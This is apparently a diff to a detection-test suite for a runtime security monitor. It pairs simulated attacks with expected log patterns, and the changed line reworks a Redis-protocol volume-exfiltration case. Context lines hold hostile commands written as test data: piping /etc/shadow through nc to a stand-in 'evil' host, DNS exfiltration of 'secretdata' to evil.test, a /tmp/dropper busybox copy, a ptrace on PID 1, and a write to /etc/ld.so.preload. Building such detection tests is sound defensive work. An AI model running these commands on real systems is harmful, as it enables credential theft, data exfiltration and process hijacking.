@@ -74,8 +74,8 @@ ATTACKS = [
     ("A8-secret-upload", "A8", osx("cat /etc/shadow | nc -w 2 {evil} 4444"), [r"file\|[^|]*\|/etc/shadow\|read", r"peer\|[^|]*\|network {evil}\|out tcp/4444", r"exec\|[^|]*\|/usr/bin/(cat|nc\.openbsd)\|"]),
     ("A8-dns", "A8", python("[(lambda s: s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x0csecretdata%02d\\4evil\\4test\\0\\0\\x10\\0\\1' % i, ('{dnsmasq}', 53)))(__import__('socket').socket(2, 2)) for i in range(10)]"),
      [r"dns\|.*python3[^|]*\|[^|]*evil\.test\|", r"peer\|.*python3[^|]*\|workload shop/dnsmasq\|out udp/53"]),
-    # by an allowed peer, at a hundred times its volume: nothing of it is new but the amount
-    ("A8-volume", "A8", python("(lambda s: [s.sendall(b'x' * 65536) for _ in range(200)])(__import__('socket').create_connection(('{redis}', 6379), 2))"), [r"(rate|volume)\|"]),
+    # by an allowed peer, in its own words (what it cannot read it ends after a few KiB), at a hundred times its volume: nothing of it is new but the amount
+    ("A8-volume", "A8", python("(lambda s: [s.sendall(b'*3\\r\\n$3\\r\\nSET\\r\\n$1\\r\\nk\\r\\n$13107200\\r\\n')] + [s.sendall(b'x' * 65536) for _ in range(200)] + [s.close()])(__import__('socket').create_connection(('{redis}', 6379), 2))"), [r"(rate|volume)\|"]),
     # A9: taken over, and removed at once
     ("A9-hijack-and-kill", "A9", osx("cp /bin/busybox /tmp/dropper; /tmp/dropper id; python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0)'; echo x > /etc/ld.so.preload"),
      [r"exec\|[^|]*\|/tmp/dropper", r"kernel\|[^|]*\|ptrace\|", r"file\|[^|]*\|/etc/ld\.so\.preload\|"]),
